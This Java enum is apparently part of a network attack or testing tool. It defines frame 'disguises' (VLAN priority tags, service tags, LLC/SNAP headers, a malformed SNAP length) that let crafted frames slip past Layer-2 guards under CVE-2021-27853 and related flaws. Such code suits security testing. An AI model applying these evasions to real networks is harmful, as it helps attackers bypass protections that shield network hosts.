package io.isolane.tools.attack.packet;

import io.isolane.core.frame.EtherType;
import java.util.Locale;

/** What stands between a frame's addresses and its packet, so that a guard looks past it (CVE-2021-27853, -27854, -27861 and -27862). */
public enum Disguise {
    /** Nothing. */
    PLAIN,
    /** A tag that names no VLAN. */
    PRIORITY_TAG,
    /** Two of them. */
    TWO_PRIORITY_TAGS,
    /** A service tag that names no VLAN. */
    SERVICE_TAG,
    /** LLC and SNAP. */
    SNAP,
    /** The same, with a length that is too short for it. */
    SNAP_OF_WRONG_LENGTH,
    /** The same behind a tag. */
    SNAP_BEHIND_A_TAG;

    /** As evidence has it. */
    public String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', ' ').replace("snap", "SNAP");
    }

    /** The frame in this disguise. */
    public CraftedFrame of(CraftedFrame frame) {
        return switch (this) {
            case PLAIN -> frame;
            case PRIORITY_TAG -> frame.tagged(0);
            case TWO_PRIORITY_TAGS -> frame.tagged(0).tagged(0);
            case SERVICE_TAG -> frame.tagged(EtherType.SERVICE_TAG, 0);
            case SNAP -> frame.snap(frame.snapLength());
            case SNAP_OF_WRONG_LENGTH -> frame.snap(3);
            case SNAP_BEHIND_A_TAG -> frame.snap(frame.snapLength()).tagged(0);
        };
    }
}
